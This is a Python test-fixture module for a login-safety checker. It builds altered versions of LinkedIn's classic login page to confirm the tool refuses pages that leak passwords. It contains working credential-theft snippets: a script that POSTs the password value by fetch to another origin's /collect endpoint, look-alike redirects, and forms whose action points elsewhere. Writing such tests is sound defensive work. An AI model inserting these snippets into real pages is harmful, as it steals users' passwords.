"""Hostile login pages: LinkedIn's classic login page, altered to hand the password to another origin.

They model what a look-alike page, an injected script or a tampered form could do, so the tests
can show that the tool refuses each one and that the other origin receives nothing. Each trap
names its other origin (`SiteState.trap_origin`, in the tests a second fixture site).
"""

from __future__ import annotations

from checker.fixture_site import urls
from checker.fixture_site.templates import Html, tag

TRAPS = frozenset(
    {
        "navigate_after_email",  # the page swaps itself for a look-alike once the email is in
        "navigate_on_password_focus",  # ... once the password field gets focus
        "form_posts_elsewhere",  # the form's action is on the other origin
        "button_formaction_elsewhere",  # the Sign in button's formaction is
        "password_in_frame",  # the password field sits in a same-origin frame posting elsewhere
        "script_sends_password",  # a script posts the password field's value to the other origin
    }
)

FRAME_PATH = urls.LOGIN + "/frame"


def _script(body: str) -> Html:
    fields = "const [username, password] = ['username', 'password'].map((id) => document.getElementById(id));"
    return Html(f"<script>(() => {{ {fields} {body} }})();</script>")


def classic_slots(trap: str | None, trap_origin: str) -> dict[str, str]:
    """What the trap changes in the classic login template: the slots it overrides."""
    elsewhere = trap_origin + urls.LOGIN_SUBMIT
    look_alike = trap_origin + urls.LOGIN
    if trap == "form_posts_elsewhere":
        return {"action": elsewhere}
    if trap == "button_formaction_elsewhere":
        return {"submit_extra": Html(f' formaction="{elsewhere}"')}
    if trap == "password_in_frame":
        frame = tag("iframe", src=FRAME_PATH, title="password", style="border:0;height:6rem")
        return {"password_part": frame}
    if trap == "navigate_after_email":
        watch = "document.getElementById('username')"
        return {
            "after_form": _script(
                f"{watch}.addEventListener('input', () => location.assign('{look_alike}'));"
            )
        }
    if trap == "navigate_on_password_focus":
        watch = "document.getElementById('password')"
        return {
            "after_form": _script(
                f"{watch}.addEventListener('focus', () => location.assign('{look_alike}'));"
            )
        }
    if trap == "script_sends_password":
        send = f"fetch('{trap_origin}/collect', {{method: 'POST', mode: 'no-cors', body: password.value}})"
        return {"after_form": _script(f"password.addEventListener('input', () => {send});")}
    return {}
